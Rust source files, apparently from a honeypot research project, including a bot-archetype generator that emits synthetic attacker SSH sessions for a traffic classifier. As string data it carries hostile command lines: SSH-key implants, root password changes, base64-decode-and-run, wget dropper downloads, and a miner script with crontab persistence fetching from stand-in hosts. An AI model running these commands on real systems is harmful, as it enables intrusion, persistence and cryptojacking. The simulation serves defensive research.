        }
    }
}

/// `&str` literals act as regex-subset string strategies, as in upstream
/// proptest. Invalid patterns panic at generation time.
impl Strategy for &str {
    type Value = String;
    fn generate(&self, rng: &mut StdRng) -> String {
        string::string_regex(self)
            .unwrap_or_else(|e| panic!("{e}"))
            .generate(rng)
    }
}

// --------------------------------------------------------------- macros

#[macro_export]
macro_rules! proptest {
    ($($(#[$attr:meta])* fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block)+) => {
        $(
            $(#[$attr])*
            fn $name() {
                let cases = $crate::cases();
                for case in 0..cases {
                    let mut rng = $crate::case_rng(
                        concat!(module_path!(), "::", stringify!($name)),
                        case as u64,
                    );
                    $(let $arg = $crate::Strategy::generate(&($strat), &mut rng);)+
                    let result: ::std::result::Result<(), $crate::TestCaseError> = (|| {
                        $body
                        ::std::result::Result::Ok(())
                    })();
                    if let ::std::result::Result::Err(e) = result {
                        panic!(
                            "proptest {} failed at case {case}/{cases}: {e}",
                            stringify!($name),
                        );
                    }
                }
            }
        )+
    };
}

#[macro_export]
macro_rules! prop_assert {
    ($cond:expr $(,)?) => {
        if !$cond {
            return ::std::result::Result::Err($crate::TestCaseError::fail(
                format!("assertion failed: {}", stringify!($cond)),
            ));
        }
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return ::std::result::Result::Err($crate::TestCaseError::fail(
                format!("assertion failed: {}: {}", stringify!($cond), format!($($fmt)+)),
            ));
        }
    };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        if !(l == r) {
            return ::std::result::Result::Err($crate::TestCaseError::fail(
                format!("assert_eq failed: {l:?} != {r:?}"),
            ));
        }
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (l, r) = (&$left, &$right);
        if !(l == r) {
            return ::std::result::Result::Err($crate::TestCaseError::fail(
                format!("assert_eq failed: {l:?} != {r:?}: {}", format!($($fmt)+)),
            ));
        }
    }};
}

#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        if l == r {
            return ::std::result::Result::Err($crate::TestCaseError::fail(
                format!("assert_ne failed: both sides are {l:?}"),
            ));
        }
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (l, r) = (&$left, &$right);
        if l == r {
            return ::std::result::Result::Err($crate::TestCaseError::fail(
                format!("assert_ne failed: both sides are {l:?}: {}", format!($($fmt)+)),
            ));
        }
    }};
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        #[test]
        fn ranges_and_vecs(x in 1u32..10, v in crate::collection::vec(any::<u8>(), 0..8), b in any::<bool>()) {
            prop_assert!((1..10).contains(&x));
            prop_assert!(v.len() < 8, "len {} with flag {}", v.len(), b);
        }

        #[test]
        fn string_patterns_match_shape(s in "[a-z0-9]{2,5}", t in ".{0,10}") {
            prop_assert!((2..=5).contains(&s.chars().count()));
            prop_assert!(s.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit()));
            prop_assert!(t.chars().count() <= 10);
            prop_assert_ne!(&s, "");
        }
    }

    #[test]
    fn class_with_trailing_dash_and_ranges() {
        let s = crate::string::string_regex("[a-z0-9 ./;|-]{0,64}").expect("valid");
        let mut rng = crate::case_rng("class", 1);
        for _ in 0..200 {
            let v = s.generate(&mut rng);
            assert!(v
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || " ./;|-".contains(c)));
        }
    }

    #[test]
    fn unsupported_patterns_error() {
        assert!(crate::string::string_regex("a+").is_err());
        assert!(crate::string::string_regex("(group)").is_err());
        assert!(crate::string::string_regex("[unclosed").is_err());
    }

    #[test]
    fn select_and_map() {
        let st = crate::sample::select(vec!["alpha", "beta"]).prop_map(str::to_string);
        let mut rng = crate::case_rng("select", 0);
        for _ in 0..50 {
            let v = st.generate(&mut rng);
            assert!(v == "alpha" || v == "beta");
        }
    }

    #[test]
    fn deterministic_per_test_and_case() {
        let a: u64 = crate::Strategy::generate(&(0u64..1_000_000), &mut crate::case_rng("t", 3));
        let b: u64 = crate::Strategy::generate(&(0u64..1_000_000), &mut crate::case_rng("t", 3));
        assert_eq!(a, b);
    }
}
