//! `sshwire` — a minimal SSH-2 protocol implementation.
//!
//! The honeynet's sensors speak enough SSH for brute-forcing bots to log in
//! and run commands. This crate implements that slice of RFC 4253/4252/4254
//! over an in-memory byte transport:
//!
//! * identification-string exchange (`SSH-2.0-…`),
//! * binary packet protocol framing ([`packet`]),
//! * algorithm negotiation and a *stub* key exchange ([`msg`], documented
//!   below),
//! * password user authentication with per-attempt accept/reject,
//! * a single `session` channel carrying `exec` requests and their output.
//!
//! **Scope note.** The study's analysis never depends on confidentiality —
//! honeypots *want* to read attacker traffic — so the key exchange derives
//! its "shared secret" from the exchanged nonces with SHA-256 instead of
//! real Diffie-Hellman, and packets stay unencrypted with a SHA-256-based
//! integrity tag. Framing, message order, state machines and failure modes
//! follow the RFCs, which is what the honeypot and session taxonomy rely
//! on. This substitution is recorded in DESIGN.md.

pub mod client;
pub mod msg;
pub mod packet;
pub mod server;
pub mod transport;
pub mod wire;

pub use client::{ClientEvent, ClientScript, SshClient};
pub use msg::Message;
pub use server::{AuthOutcome, ServerHandler, SshServer};
pub use transport::{run_dialogue, DialogueLog};

/// Builds a `BytesMut` from a byte slice — a convenience for downstream
/// tests that do not depend on the `bytes` crate directly.
pub fn bytes_mut_from(data: &[u8]) -> bytes::BytesMut {
    bytes::BytesMut::from(data)
}

/// Protocol version identifier this implementation sends.
pub const CLIENT_VERSION_DEFAULT: &str = "SSH-2.0-Go";
/// Server identification mimicking a stock OpenSSH, as Cowrie does.
pub const SERVER_VERSION_DEFAULT: &str = "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5";

/// Errors surfaced by the protocol state machines.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SshError {
    /// Peer's identification line was not `SSH-2.0-*`.
    BadVersionExchange(String),
    /// A packet violated framing rules (length, padding, tag).
    Framing(String),
    /// A message arrived that is invalid in the current state.
    Protocol(String),
    /// Malformed message payload.
    Decode(String),
    /// The peer disconnected mid-dialogue.
    Disconnected,
}

impl std::fmt::Display for SshError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SshError::BadVersionExchange(s) => write!(f, "bad version exchange: {s}"),
            SshError::Framing(s) => write!(f, "framing error: {s}"),
            SshError::Protocol(s) => write!(f, "protocol violation: {s}"),
            SshError::Decode(s) => write!(f, "malformed payload: {s}"),
            SshError::Disconnected => write!(f, "peer disconnected"),
        }
    }
}

impl std::error::Error for SshError {}
