//! Bot archetypes: what one session of each attacker looks like.
//!
//! Every archetype corresponds to a behavioural category of the paper
//! (Table 1 / Figs 2–4) and emits command lines that its Table 1 regex
//! matches — the classifier test in `honeylab-core` pins this mapping.
//! Where the paper redacts a slur in figure labels, we keep the published
//! Table 1 indicator string only as a generated *filename* (these are
//! indicators of compromise from the published artefact, not prose).

use crate::storage::StorageEcosystem;
use abusedb::MalwareFamily;
use honeypot::Protocol;
use hutil::base64;
use hutil::Date;
use netsim::Ipv4Addr;
use rand::rngs::StdRng;
use rand::Rng;

/// How a loader bot moves its payload (drives Fig. 4's exists/missing split).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransferMethod {
    /// Emulated download — file captured if the dropper is up.
    Wget,
    /// Emulated download via curl.
    Curl,
    /// Emulated download via tftp.
    Tftp,
    /// Emulated download via busybox ftpget.
    Ftpget,
    /// File assumed present (pushed by scp/rsync, which Cowrie cannot
    /// emulate) — always "file missing".
    ScpAssumed,
}

/// Everything the attacker decides for one session.
#[derive(Debug, Clone)]
pub struct BotSessionContent {
    /// Credential attempts in order.
    pub logins: Vec<(String, String)>,
    /// Command lines (empty = pure intrusion).
    pub commands: Vec<String>,
    /// Client SSH identification string.
    pub client_version: Option<String>,
    /// Whether the client idles out instead of closing.
    pub idle_out: bool,
    /// SSH or Telnet.
    pub protocol: Protocol,
}

impl BotSessionContent {
    fn ssh(logins: Vec<(String, String)>, commands: Vec<String>, version: &str) -> Self {
        Self {
            logins,
            commands,
            client_version: Some(version.to_string()),
            idle_out: false,
            protocol: Protocol::Ssh,
        }
    }
}

/// Per-session context handed to an archetype.
pub struct BotCtx<'a> {
    /// Deterministic randomness for this session.
    pub rng: &'a mut StdRng,
    /// Calendar day of the session.
    pub date: Date,
    /// The attacking client's address.
    pub client_ip: Ipv4Addr,
    /// Whether this client belongs to the small self-hosting subset
    /// (hosting-AS machines that serve their own payloads): when true the
    /// "storage location" is the client itself, producing the paper's 20 %
    /// same-IP downloads without inflating the storage-IP population.
    pub self_host: bool,
    /// The malware-hosting ecosystem.
    pub storage: &'a StorageEcosystem,
}

impl BotCtx<'_> {
    /// A dropper URI for `family`; self-hosting clients serve from their
    /// own address, everyone else from the storage ecosystem.
    pub fn dropper(&mut self, family: MalwareFamily) -> String {
        let p = if self.self_host { 1.0 } else { 0.0 };
        self.storage
            .pick_uri(family, self.date, self.client_ip, p, self.rng)
    }

    /// Like [`BotCtx::dropper`], but models configuration rot: from 2023
    /// onward most picks ignore host liveness and therefore fail
    /// (paper §5: the "file exists" collapse).
    pub fn dropper_timed(&mut self, family: MalwareFamily) -> String {
        if self.date >= Date::new(2023, 1, 1) && !self.self_host && self.rng.random::<f64>() < 0.8 {
            self.storage.pick_stale_uri(family, self.date, self.rng)
        } else {
            self.dropper(family)
        }
    }

    fn token(&mut self, n: usize) -> String {
        const CS: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
        (0..n)
            .map(|_| CS[self.rng.random_range(0..CS.len())] as char)
            .collect()
    }

    fn alpha_token(&mut self, n: usize) -> String {
        const CS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ";
        (0..n)
            .map(|_| CS[self.rng.random_range(0..CS.len())] as char)
            .collect()
    }

    /// A brute-force ladder ending in the given fixed password (used by
    /// campaigns tied to one credential, e.g. the TV-box bots).
    pub fn ladder(&mut self, pw: &str) -> Vec<(String, String)> {
        crate::credentials::bruteforce_ladder(self.rng, pw)
    }

    /// A brute-force ladder ending in a drawn attack password — what most
    /// command-executing bots use (keeps Fig. 10's top-5 calibrated).
    fn ladder_any(&mut self) -> Vec<(String, String)> {
        let pw = crate::credentials::draw_attack_password(self.rng);
        crate::credentials::bruteforce_ladder(self.rng, &pw)
    }
}

/// The 8 command-and-control IPs referenced by the mdrfckr cleanup script
/// (paper §9 enumerates their open ports).
pub fn mdrfckr_c2_ips() -> [Ipv4Addr; 8] {
    [
        Ipv4Addr::from_octets(198, 18, 7, 1),
        Ipv4Addr::from_octets(198, 18, 7, 2),
        Ipv4Addr::from_octets(198, 18, 7, 3),
        Ipv4Addr::from_octets(198, 18, 7, 4),
        Ipv4Addr::from_octets(198, 18, 8, 1),
        Ipv4Addr::from_octets(198, 18, 8, 2),
        Ipv4Addr::from_octets(198, 18, 8, 3),
        Ipv4Addr::from_octets(198, 18, 8, 4),
    ]
}

/// The constant public-key line the mdrfckr actor plants; its hash is what
/// abuse databases label "CoinMiner"/"Malicious" (§9).
pub const MDRFCKR_KEY_LINE: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCl0kIN33IJISIufmqpqg54D6s4J0L7XV2kep0rNzgY1S1IdE8HDef7z1ipBVuGTygGsq+x4yVnxveGshVP48YmicQHJMCIljmn6Po0RMC48qihm/9ytoEYtkKkeiTqhvO4AkFcSvxJ25GZHZaiqu1fm+Tu+b8rpZDhIO/21Fpg8wOYEkgaBsGP3dGdBX4bepkLAVDZIJePs9RlEm3Lzc1SS30WAL4qII2H735WJQ5NLKys1rX4FjPV68hrp9Esv2L+tTH8c6fFf sT9Lbr7yIuPdIkJLhnGTJR0BFK9rYGXSPcZ+oSvXF5GrK2XKwpIUSrCcZBLPU6qt6RPmp11t1DPH mdrfckr";

/// The cryptominer / shellbot / cleanup scripts uploaded base64-encoded
/// during dip windows (§9). Decoded by the case-study analysis.
pub fn mdrfckr_b64_scripts() -> [String; 3] {
    let c2 = mdrfckr_c2_ips();
    let cleanup_targets: Vec<String> = c2.iter().map(|ip| format!("pkill -f {ip}")).collect();
    [
        // Cryptominer setup.
        "#!/bin/sh\ncd /tmp || cd /var/tmp\nwget -q http://dl.pool.example/xmr.tar.gz\ntar xf xmr.tar.gz && ./config.json --donate 0\ncrontab -l | { cat; echo \"@reboot /tmp/.X25-unix/start\"; } | crontab -".to_string(),
        // Shellbot (IRC C&C).
        "#!/usr/bin/perl\n# shellbot\nuse IO::Socket;\nmy $irc = IO::Socket::INET->new(PeerAddr=>'irc.example:6667');\nprint $irc \"NICK dred\\n\";".to_string(),
        // Cleanup: kills processes tied to the 8 C2 IPs.
        format!("#!/bin/sh\n# cleanup\n{}\nrm -rf /tmp/.mined", cleanup_targets.join("\n")),
    ]
}

/// All bot behaviours. Variants mirror the paper's category names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Archetype {
    // ---- scanning / scouting background -------------------------------
    /// TCP handshake only, no credentials (taxonomy: scanning).
    Scanner,
    /// Failed logins only (taxonomy: scouting).
    GenericScout,
    /// Successful login, no commands (taxonomy: intrusion).
    GenericIntruder,
    /// Telnet background noise (scanning/scouting on port 23).
    TelnetNoise,
    // ---- non-state-changing command bots (Fig. 2) ---------------------
    /// `echo -e "\x6F\x6B"` — the dominant scout (>80 %).
    EchoOk,
    /// `echo ok` plain-text variant.
    EchoOkTxt,
    /// `echo "SSH check …"`.
    EchoSshCheck,
    /// `echo <uuid>` consistency probe.
    EchoOsCheck,
    /// `uname -a`.
    UnameA,
    /// `uname -s -v -n -r -m`.
    UnameSvnrm,
    /// `uname -s -v -n -r` + cpuinfo model name.
    UnameSvnr,
    /// `uname -a` + `nproc`.
    UnameANproc,
    /// `uname -s -n -r -i` + `nproc`.
    UnameSnriNproc,
    /// `/bin/busybox cat /proc/self/exe || cat /proc/self/exe`.
    BboxScoutCat,
    /// AK47 hex marker + writable-dir probe.
    Ak47Scout,
    /// `$SHELL` + `dd bs=22` fingerprint.
    ShellFp,
    /// JuiceSSH client probes.
    JuiceSsh,
    /// clamav presence check.
    Clamav,
    /// `export VEI` probe.
    ExportVei,
    /// cloud print probe.
    CloudPrint,
    /// CPU(s) + bin.x86_64 recon.
    Binx86,
    // ---- state-changing, no-exec bots (Fig. 3a) -----------------------
    /// The §9 case-study actor (initial behaviour).
    MdrfckrInitial,
    /// The post-2022-12-08 variant (no passwd change; disables WorkMiner).
    MdrfckrVariant,
    /// Base64 script uploads during dip windows.
    MdrfckrB64,
    /// The Jan–Apr 2024 curl proxy abuse (Appendix C).
    CurlMaxred,
    /// `echo root:<15+>|chpasswd` lockout.
    Root17CharPwd,
    /// 12-char chpasswd + awk capability scout.
    Root12CharCapscout,
    /// 12-char chpasswd + `echo 321` marker.
    Root12CharEcho321,
    /// `openssl passwd -1 <8>` hash priming.
    OpensslPasswd,
    /// lenni0451 marker drop.
    Lenni0451,
    /// stx + LC_ALL miner stage.
    StxMiner,
    /// perl dred miner stage.
    PerlDredMiner,
    // ---- login-only credential campaigns (Fig. 10/13) -----------------
    /// `3245gs5662d34` — login, zero commands, hang up.
    Cred3245,
    /// TV-box Mirai using `dreambox` default.
    TvBoxDreambox,
    /// TV-box Mirai using `vertex25ektks123` default.
    TvBoxVertex,
    /// Cowrie fingerprinting via `phil`/`richard` (Fig. 11).
    PhilScanner,
    // ---- file-exec bots (Fig. 3b/4) ------------------------------------
    /// bb_5_diff_char_v2: busybox 5-char probe + tftp;wget loader.
    Bbox5Char,
    /// bbox_unlabelled: mixed transfer methods; dies mid-2022.
    BboxUnlabelled,
    /// busybox probe + random-name exec.
    BboxRandExec,
    /// loader.wget staging.
    BboxLoaderWget,
    /// `echo -ne "\x45\x4c\x46…"` ELF-by-echo dropper.
    BboxEchoElf,
    /// Generic loader with a tool set (curl/echo/ftp/wget) and optional
    /// exec — covers every `gen_*` category.
    GenLoader {
        /// Uses curl.
        curl: bool,
        /// Uses an echo hex-dump stage.
        echo: bool,
        /// Uses ftp (ftpget/tftp).
        ftp: bool,
        /// Uses wget.
        wget: bool,
        /// Executes the dropped file.
        exec: bool,
    },
    /// rapperbot SSH-key implant + loader.
    RapperBot,
    /// update.sh loader.
    UpdateAttack,
    /// sora Mirai strain.
    SoraAttack,
    /// ohshit strain.
    OhshitAttack,
    /// onions1337 strain.
    OnionsAttack,
    /// Heisenberg strain.
    HeisenAttack,
    /// Zeus strain.
    ZeusAttack,
    /// The antisemitic-filename strain (label redacted as in the paper).
    FrSlurAttack,
    /// Password123 + daemon account stage.
    Passwd123Daemon,
    /// Obfuscated rm/cd carpet pattern.
    RmObfPattern1,
    /// wget -4 / dget -4 pair.
    WgetDget,
}

impl Archetype {
    /// The category label this archetype should classify into (where it is
    /// a Table 1 bot), or a taxonomy label for background traffic.
    pub fn name(self) -> &'static str {
        match self {
            Archetype::Scanner => "scanner",
            Archetype::GenericScout => "generic_scout",
            Archetype::GenericIntruder => "generic_intruder",
            Archetype::TelnetNoise => "telnet_noise",
            Archetype::EchoOk => "echo_OK",
            Archetype::EchoOkTxt => "echo_ok_txt",
            Archetype::EchoSshCheck => "echo_ssh_check",
            Archetype::EchoOsCheck => "echo_os_check",
            Archetype::UnameA => "uname_a",
            Archetype::UnameSvnrm => "uname_svnrm",
            Archetype::UnameSvnr => "uname_svnr",
            Archetype::UnameANproc => "uname_a_nproc",
            Archetype::UnameSnriNproc => "uname_snri_nproc",
            Archetype::BboxScoutCat => "bbox_scout_cat",
            Archetype::Ak47Scout => "ak47_scout",
            Archetype::ShellFp => "shell_fp",
            Archetype::JuiceSsh => "juicessh",
            Archetype::Clamav => "clamav",
            Archetype::ExportVei => "export_vei",
            Archetype::CloudPrint => "cloud_print",
            Archetype::Binx86 => "binx86",
            Archetype::MdrfckrInitial => "mdrfckr",
            Archetype::MdrfckrVariant => "mdrfckr",
            Archetype::MdrfckrB64 => "mdrfckr",
            Archetype::CurlMaxred => "curl_maxred",
            Archetype::Root17CharPwd => "root_17_char_pwd",
            Archetype::Root12CharCapscout => "root_12_char_capscout",
            Archetype::Root12CharEcho321 => "root_12_char_echo321",
            Archetype::OpensslPasswd => "openssl_passwd",
            Archetype::Lenni0451 => "lenni_0451",
            Archetype::StxMiner => "stx_miner",
            Archetype::PerlDredMiner => "perl_dred_miner",
            Archetype::Cred3245 => "login_3245gs5662d34",
            Archetype::TvBoxDreambox => "tvbox_dreambox",
            Archetype::TvBoxVertex => "tvbox_vertex",
            Archetype::PhilScanner => "phil_scanner",
            Archetype::Bbox5Char => "bbox_5_char_v2",
            Archetype::BboxUnlabelled => "bbox_unlabelled",
            Archetype::BboxRandExec => "bbox_rand_exec",
            Archetype::BboxLoaderWget => "bbox_loaderwget",
            Archetype::BboxEchoElf => "bbox_echo_elf",
            Archetype::GenLoader {
                curl,
                echo,
                ftp,
                wget,
                ..
            } => gen_loader_name(curl, echo, ftp, wget),
            Archetype::RapperBot => "rapperbot",
            Archetype::UpdateAttack => "update_attack",
            Archetype::SoraAttack => "sora_attack",
            Archetype::OhshitAttack => "ohshit_attack",
            Archetype::OnionsAttack => "onions_attack",
            Archetype::HeisenAttack => "heisen_attack",
            Archetype::ZeusAttack => "zeus_attack",
            Archetype::FrSlurAttack => "fr***_attack",
            Archetype::Passwd123Daemon => "passwd123_daemon",
            Archetype::RmObfPattern1 => "rm_obf_pattern_1",
            Archetype::WgetDget => "wget_dget",
        }
    }

    /// Generates one session's content.
    pub fn session(self, ctx: &mut BotCtx<'_>) -> BotSessionContent {
        use Archetype::*;
        match self {
            Scanner => BotSessionContent {
                logins: vec![],
                commands: vec![],
                client_version: None,
                idle_out: false,
                protocol: Protocol::Ssh,
            },
            GenericScout => {
                // Dictionary attempts against non-root users and root:root
                // — nothing the policy accepts.
                let n = ctx.rng.random_range(1..=5);
                let users = ["admin", "user", "test", "ubuntu", "pi", "oracle", "root"];
                let logins = (0..n)
                    .map(|_| {
                        let u = users[ctx.rng.random_range(0..users.len())];
                        let p = if u == "root" {
                            "root".to_string()
                        } else {
                            crate::credentials::draw_generic(ctx.rng).to_string()
                        };
                        (u.to_string(), p)
                    })
                    .collect();
                BotSessionContent::ssh(logins, vec![], "SSH-2.0-libssh2_1.8.0")
            }
            GenericIntruder => {
                let logins = ctx.ladder_any();
                BotSessionContent::ssh(logins, vec![], "SSH-2.0-Go")
            }
            TelnetNoise => {
                let scouting = ctx.rng.random::<f64>() < 0.8;
                let logins = if scouting {
                    vec![("admin".to_string(), "admin".to_string())]
                } else {
                    vec![]
                };
                BotSessionContent {
                    logins,
                    commands: vec![],
                    client_version: None,
                    idle_out: false,
                    protocol: Protocol::Telnet,
                }
            }
            EchoOk => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![r#"echo -e "\x6F\x6B""#.to_string()],
                "SSH-2.0-Go",
            ),
            EchoOkTxt => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["echo ok".to_string()],
                "SSH-2.0-paramiko_2.4.2",
            ),
            EchoSshCheck => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![r#"echo "SSH check alive""#.to_string()],
                "SSH-2.0-Go",
            ),
            EchoOsCheck => {
                let uuid = format!(
                    "{}-{}-{}-{}-{}",
                    hex_token(ctx, 8),
                    hex_token(ctx, 4),
                    hex_token(ctx, 4),
                    hex_token(ctx, 4),
                    hex_token(ctx, 12)
                );
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!("echo {uuid}")],
                    "SSH-2.0-Go",
                )
            }
            UnameA => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["uname -a".to_string()],
                "SSH-2.0-libssh_0.9.6",
            ),
            UnameSvnrm => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["uname -s -v -n -r -m".to_string()],
                "SSH-2.0-Go",
            ),
            UnameSvnr => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![r#"uname -s -v -n -r; cat /proc/cpuinfo | grep "model name""#.to_string()],
                "SSH-2.0-Go",
            ),
            UnameANproc => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["uname -a; nproc".to_string()],
                "SSH-2.0-Go",
            ),
            UnameSnriNproc => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["uname -s -n -r -i; nproc".to_string()],
                "SSH-2.0-OpenSSH_7.4p1",
            ),
            BboxScoutCat => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![
                    "/bin/busybox cat /proc/self/exe || cat /proc/self/exe".to_string(),
                ],
                "SSH-2.0-Go",
            ),
            Ak47Scout => {
                let dir = ["/tmp", "/var/tmp", "/dev/shm"][ctx.rng.random_range(0..3)];
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!(
                        r#"cd {dir}; echo -e "\x41\x4b\x34\x37"; echo "writable""#
                    )],
                    "SSH-2.0-Go",
                )
            }
            ShellFp => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["echo $SHELL; dd if=/proc/self/exe bs=22 count=1".to_string()],
                "SSH-2.0-Go",
            ),
            JuiceSsh => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["ls /data/data/com.sonelli.juicessh 2>/dev/null; uname -a".to_string()],
                "SSH-2.0-JuiceSSH",
            ),
            Clamav => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["which clamav; ps aux | grep clamav".to_string()],
                "SSH-2.0-Go",
            ),
            ExportVei => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["export VEI=1; uname -a".to_string()],
                "SSH-2.0-Go",
            ),
            CloudPrint => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["echo cloud print ready".to_string()],
                "SSH-2.0-Go",
            ),
            Binx86 => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![r#"lscpu | grep "CPU(s):"; ls bin.x86_64"#.to_string()],
                "SSH-2.0-Go",
            ),
            MdrfckrInitial => {
                let pw15 = ctx.token(16);
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![
                        format!(
                            r#"cd ~; chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{MDRFCKR_KEY_LINE}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"#
                        ),
                        format!("echo root:{pw15}|chpasswd|bash"),
                        r#"cat /proc/cpuinfo | grep name | wc -l; free -m | grep Mem"#
                            .to_string(),
                    ],
                    "SSH-2.0-Go",
                )
            }
            MdrfckrVariant => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![
                    format!(
                        r#"cd ~; chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{MDRFCKR_KEY_LINE}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"#
                    ),
                    "rm -rf /tmp/auth.sh /tmp/secure.sh; pkill -f auth.sh; pkill -f secure.sh"
                        .to_string(),
                    "echo > /etc/hosts.deny".to_string(),
                ],
                "SSH-2.0-Go",
            ),
            MdrfckrB64 => {
                let scripts = mdrfckr_b64_scripts();
                let script = &scripts[ctx.rng.random_range(0..scripts.len())];
                let b64 = base64::encode(script.as_bytes());
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![
                        format!(
                            r#"cd ~; chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{MDRFCKR_KEY_LINE}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"#
                        ),
                        format!("echo {b64}|base64 -d|sh"),
                    ],
                    "SSH-2.0-Go",
                )
            }
            CurlMaxred => {
                let n = 90 + ctx.rng.random_range(0..20);
                let commands = (0..n)
                    .map(|_| {
                        let target = ctx.rng.random_range(1..=120);
                        let method = if ctx.rng.random::<f64>() < 0.5 { "GET" } else { "POST" };
                        let cookie = ctx.token(24);
                        format!(
                            "curl https://203.0.113.{target}/ -s -X {method} --max-redirs 5 --compressed --cookie '{cookie}' --raw --referer 'https://203.0.113.{target}/login'"
                        )
                    })
                    .collect();
                BotSessionContent::ssh(ctx.ladder_any(), commands, "SSH-2.0-Go")
            }
            Root17CharPwd => {
                let pw = ctx.token(16);
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!("echo root:{pw}|chpasswd")],
                    "SSH-2.0-Go",
                )
            }
            Root12CharCapscout => {
                let pw = ctx.token(12);
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!(
                        r#"echo root:{pw}|chpasswd; cat /proc/cpuinfo | awk '{{print $4,$5,$6,$7,$8,$9;}}'"#
                    )],
                    "SSH-2.0-Go",
                )
            }
            Root12CharEcho321 => {
                let pw = ctx.token(12);
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!("echo root:{pw}|chpasswd; echo 321")],
                    "SSH-2.0-Go",
                )
            }
            OpensslPasswd => {
                let seed = ctx.token(8);
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!("openssl passwd -1 {seed} > /tmp/.hash")],
                    "SSH-2.0-Go",
                )
            }
            Lenni0451 => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec!["echo lenni0451 > /tmp/.lenni; uname -a".to_string()],
                "SSH-2.0-Go",
            ),
            StxMiner => {
                let uri = ctx.dropper(MalwareFamily::CoinMiner);
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!("export LC_ALL=C; cd /tmp; wget {uri} -O stx")],
                    "SSH-2.0-Go",
                )
            }
            PerlDredMiner => {
                let uri = ctx.dropper(MalwareFamily::CoinMiner);
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!("cd /var/tmp; wget {uri} -O dred.pl; which perl")],
                    "SSH-2.0-Go",
                )
            }
            Cred3245 => {
                let mut c = BotSessionContent::ssh(
                    vec![("root".to_string(), crate::credentials::CRED_3245.to_string())],
                    vec![],
                    "SSH-2.0-Go",
                );
                c.idle_out = false;
                c
            }
            TvBoxDreambox | TvBoxVertex => {
                let pw = if self == TvBoxDreambox {
                    crate::credentials::CRED_DREAMBOX
                } else {
                    crate::credentials::CRED_VERTEX
                };
                // TV-box Mirai infrastructure is mostly dead by the time we
                // see it: abuse DBs found only "a small number of hashes".
                let uri = if ctx.rng.random::<f64>() < 0.85 {
                    ctx.storage.pick_stale_uri(MalwareFamily::Mirai, ctx.date, ctx.rng)
                } else {
                    ctx.dropper(MalwareFamily::Mirai)
                };
                let file = uri.rsplit('/').next().unwrap_or("m.sh").to_string();
                BotSessionContent::ssh(
                    vec![("root".to_string(), pw.to_string())],
                    vec![format!("cd /tmp; wget {uri}; sh {file}")],
                    "SSH-2.0-Go",
                )
            }
            PhilScanner => {
                let use_phil = ctx.rng.random::<f64>() < 0.6;
                let user = if use_phil {
                    crate::credentials::USER_PHIL
                } else {
                    crate::credentials::USER_RICHARD
                };
                BotSessionContent::ssh(
                    vec![(user.to_string(), "0".to_string())],
                    vec![],
                    "SSH-2.0-Go",
                )
            }
            Bbox5Char => {
                // Early period downloads for real; from 2023 the payload is
                // assumed to be pushed out-of-band (rsync/scp) — the Fig. 4
                // "file exists" collapse.
                let probe = ctx.alpha_token(5);
                let early = ctx.date < Date::new(2023, 1, 1);
                let fetch_real = if early {
                    ctx.rng.random::<f64>() < 0.75
                } else {
                    ctx.rng.random::<f64>() < 0.04
                };
                let cmd = if fetch_real {
                    let uri = ctx.dropper(MalwareFamily::Mirai);
                    let file = uri.rsplit('/').next().unwrap_or("bins.sh").to_string();
                    format!(
